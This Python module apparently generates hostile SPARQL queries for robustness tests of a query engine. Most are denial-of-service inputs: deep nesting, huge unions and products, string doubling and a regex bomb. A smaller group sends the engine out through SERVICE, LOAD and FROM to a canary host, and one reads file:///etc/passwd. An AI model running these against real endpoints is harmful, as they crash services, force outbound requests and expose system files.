"""Forty queries that harm an engine which takes what it is given: they crash, hang or fill it, or they go out."""

from __future__ import annotations

from collections.abc import Callable


def _nested(opening: str, core: str, closing: str, depth: int) -> str:
    return opening * depth + core + closing * depth


def _filter(expression: str) -> str:
    return f"SELECT * {{ ?s ?p ?o FILTER({expression}) }}"


def _many(pattern: str, count: int) -> str:
    return "SELECT * { ?s ?p ?o . " + "".join(pattern.replace("%", str(number)) for number in range(count)) + "}"


def _product(count: int) -> str:
    return " . ".join(f"?s{number} ?p{number} ?o{number}" for number in range(count))


def _doubled(function: str, times: int) -> str:
    steps = "".join(f"BIND({function.replace('?', f'?v{number}')} AS ?v{number + 1}) " for number in range(times))
    return f'SELECT (STRLEN(?v{times}) AS ?n) {{ BIND("aaaaaaaaaaaaaaaa" AS ?v0) {steps} }}'


_DEEP = {
    "braces": "SELECT * " + _nested("{", "", "}", 2_200),
    "braces that stay open": "SELECT * " + "{" * 2_200,
    "parentheses": _filter(_nested("(", "1", ")", 2_200)),
    "parentheses behind a comparison": _filter("1<" + _nested("(", "2", ")", 2_200) + ">3"),
    "parentheses behind a comment like an IRI": _filter('1<#>"""\n' + _nested("(", "2", ")", 2_200) + '#"""\n'),
    "not": _filter("!" * 2_200 + "true"),
    "minus": _filter("-" * 2_200 + "1"),
    "plus": _filter("1+" * 2_200 + "1"),
    "or": _filter("true||" * 2_000 + "true"),
    "functions": _filter(_nested("STR(", "1", ")", 2_000)),
    "brackets": "SELECT * {" + _nested("[ ?p ", "1", "]", 2_000) + "}",
    "exists": "SELECT * {" + _nested("FILTER EXISTS{", "", "}", 800) + "}",
    "optional": "SELECT * {" + _nested("OPTIONAL{", "", "}", 1_200) + "}",
    "sub-selects": "SELECT * {" + _nested("{SELECT*{", "", "}}", 800) + "}",
    "groups in paths": "SELECT * { ?s " + _nested("(", "<p:p>", ")*", 2_000) + " ?o }",
    "triple terms": "SELECT * { " + _nested("<<", "?s ?p ?o", ">>", 2_000) + " ?p ?o }",
}
_WIDE = {
    "lists in lists": "SELECT * {" + _nested("(", "", ")", 200) + " ?p ?o}",
    "a long list": "SELECT * { (" + "?x " * 400 + ") ?p ?o }",
    "objects": "SELECT * { ?s ?p " + ",".join(f"?o{number}" for number in range(200)) + "}",
    "predicates": "SELECT * { ?s " + ";".join(f"?p{number} ?o{number}" for number in range(200)) + "}",
    "objects without blanks": "SELECT * { " + "".join(f"?s{number} aTRUE." for number in range(200)) + "}",
    "optionals": _many("OPTIONAL{?s ?p% ?o%}", 200),
    "graphs": _many("GRAPH?g%{}", 1_000),
    "blocks of values": _many("VALUES?v%{1 2}", 900),
    "unions": "SELECT * {" + "{}UNION{}" * 1_500 + "}",
    "steps": "SELECT * { ?s " + "/".join(["<p:p>"] * 800) + " ?o }",
    "alternatives": "SELECT * { ?s (" + "|".join(["<p:p>"] * 800) + ")* ?o }",
}
_LONG = {
    "a product of three": "SELECT (COUNT(*) AS ?n) {" + _product(3) + "}",
    "a product of sixty": "SELECT * {" + _product(60) + "} ORDER BY ?s1",
    "optionals within the bound": _many("OPTIONAL{?s ?p% ?o%}", 31),
    "doubled unions": "SELECT (COUNT(*) AS ?n) {" + "{}UNION{}" * 30 + "}",
    "values times values": "SELECT (COUNT(*) AS ?n) {"
    + "".join(f"VALUES ?v{number} {{{' 1' * 300}}}" for number in range(8)) + "}",
    "every path": "SELECT (COUNT(*) AS ?n) { GRAPH ?g { ?s (!<p:p>|!^<p:p>)* ?o } }",
}  # fmt: skip
_FAT = {
    "doubled texts": _doubled("CONCAT(?, ?)", 30),
    "replaced texts": _doubled('REPLACE(?, "a", "aaaaaaaa")', 12),
    "all in one text": "SELECT (GROUP_CONCAT(?o) AS ?all) {" + _product(2) + " . ?s0 ?p0 ?o }",
    "a bomb of a pattern": _filter('REGEX(STR(?o), "((((a{1000}){1000}){1000})*)*b")'),
    "distinct products": "SELECT DISTINCT * {" + _product(3) + "}",
}
_OUT: dict[str, Callable[[str], str]] = {
    "service": "SELECT * {{ SERVICE <{0}> {{ ?s ?p ?o }} }}".format,
    "service in one word": "SELECT * {{ SERVICESILENT<{0}>{{ ?s ?p ?o }} }}".format,
    "service behind a value": "SELECT * {{ ?s ?p trueSERVICE <{0}> {{ ?s ?p ?o }} }}".format,
    "service as a prefix": "PREFIX : <{0}> SELECT * {{ SERVICE:x {{ ?s ?p ?o }} }}".format,
    "load": "LOAD <{0}>".format,
    "load behind a query": "SELECT * {{}} ; LOAD <{0}>".format,
    "from the network": "SELECT * FROM <{0}> {{ ?s ?p ?o }}".format,
    "from the network by a prefix": "PREFIX x: <{0}> SELECT * FROM NAMED x:y {{ GRAPH ?g {{ ?s ?p ?o }} }}".format,
    "from a file": "SELECT * FROM <file:///etc/passwd> {{ ?s ?p ?o }}".format,
}


def killers(canary: str) -> dict[str, str]:
    """The queries by what they do; those that go out go to the canary."""
    return {**_DEEP, **_WIDE, **_LONG, **_FAT, **{name: query(canary) for name, query in _OUT.items()}}
